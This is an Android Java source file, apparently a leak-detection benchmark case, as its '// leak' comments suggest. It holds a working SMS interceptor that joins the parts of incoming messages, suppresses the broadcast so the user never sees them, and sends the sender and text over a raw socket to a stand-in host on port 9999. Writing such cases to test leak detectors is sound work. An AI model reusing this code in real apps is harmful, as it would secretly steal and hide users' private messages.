package ways;

import android.app.Service;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.os.Bundle;
import android.os.IBinder;
import android.telephony.SmsMessage;
import java.io.DataOutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;

/** Parts of an incoming message are joined, taken from the user and given to a service with a raw socket. */
public class PduParts extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Bundle bundle = intent.getExtras();
        if (bundle == null) return;
        Object[] pdus = (Object[]) bundle.get("pdus");
        SmsMessage[] parts = new SmsMessage[pdus.length];
        StringBuffer text = new StringBuffer();
        String from = "";
        for (int i = 0; i < parts.length; i++) {
            parts[i] = SmsMessage.createFromPdu((byte[]) pdus[i]);
            text.append(parts[i].getMessageBody());
            from = parts[i].getOriginatingAddress();
        }
        abortBroadcast();
        Intent work = new Intent(context, Sender.class);
        work.putExtra("from", from);
        work.putExtra("text", text.toString());
        work.putExtra("count", parts.length);
        context.startService(work);
    }

    public static class Sender extends Service {
        @Override
        public int onStartCommand(final Intent intent, int flags, int id) {
            new Thread() {
                @Override
                public void run() {
                    try {
                        Socket socket = new Socket();
                        socket.connect(new InetSocketAddress("203.0.113.21", 9999), 5000);
                        DataOutputStream out = new DataOutputStream(socket.getOutputStream());
                        out.writeInt(intent.getIntExtra("count", 0)); // no leak
                        out.writeUTF(intent.getStringExtra("from")); // leak
                        out.writeBytes(intent.getStringExtra("text")); // leak
                        out.flush();
                    } catch (Exception e) {
                        stopSelf();
                    }
                }
            }.start();
            return START_STICKY;
        }

        @Override
        public IBinder onBind(Intent intent) {
            return null;
        }
    }
}
